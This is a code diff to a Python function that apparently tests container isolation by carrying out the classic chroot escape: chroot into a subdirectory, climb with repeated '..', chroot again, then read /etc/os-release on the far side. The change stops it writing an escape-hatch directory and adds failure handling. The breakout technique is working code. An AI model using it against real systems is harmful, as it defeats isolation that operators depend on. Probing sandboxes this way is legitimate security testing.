@@ -18,15 +18,15 @@ def climb_out(ctx) -> dict:
 
     chroot(2) moves only where "/" is for path lookups; the working directory stays where it was.
     So: chroot into a subdirectory while the working directory is above it, climb with "..",
-    which no longer stops anywhere, and chroot(".") where the climb ends. It only reads there."""
-    hatch = os.path.join(ctx.root, "escape-hatch")  # inside the container's own root (its overlay)
-    os.makedirs(hatch, exist_ok=True)
+    which no longer stops anywhere, and chroot(".") where the climb ends. It writes nothing, on
+    either side: the subdirectory is one that exists, and where it lands it only reads."""
+    below = [e.path for e in os.scandir(ctx.root) if e.is_dir(follow_symlinks=False)]
     read_end, write_end = os.pipe()
     child = os.fork()
     if child == 0:
         try:
             os.chdir(ctx.root)
-            os.chroot(hatch)              # "/" is now the hatch; the working directory is above it
+            os.chroot(below[0])           # "/" is now a subdirectory; the working directory is above it
             for _ in range(64):
                 os.chdir("..")            # nothing stops the climb at the old "/"
             os.chroot(".")                # wherever the climb ended is "/" now
@@ -34,6 +34,8 @@ def climb_out(ctx) -> dict:
             with open("/etc/os-release") as f:
                 first_line = f.readline().strip()
             os.write(write_end, f"{reached.st_dev} {reached.st_ino} {first_line}".encode())
+        except (OSError, IndexError) as e:
+            os.write(write_end, f"- - (the climb failed: {e})".encode())
         finally:
             os._exit(0)
     os.close(write_end)
@@ -41,7 +43,8 @@ def climb_out(ctx) -> dict:
     answer = os.read(read_end, 4096).decode()
     os.close(read_end)
     device, inode, first_line = answer.split(" ", 2)
-    return {"device": int(device), "inode": int(inode), "os-release": first_line}
+    return {"device": None if device == "-" else int(device), "inode": None if inode == "-" else int(inode),
+            "os-release": first_line}
 
 
 def reaches_host_root(reached: dict) -> bool:
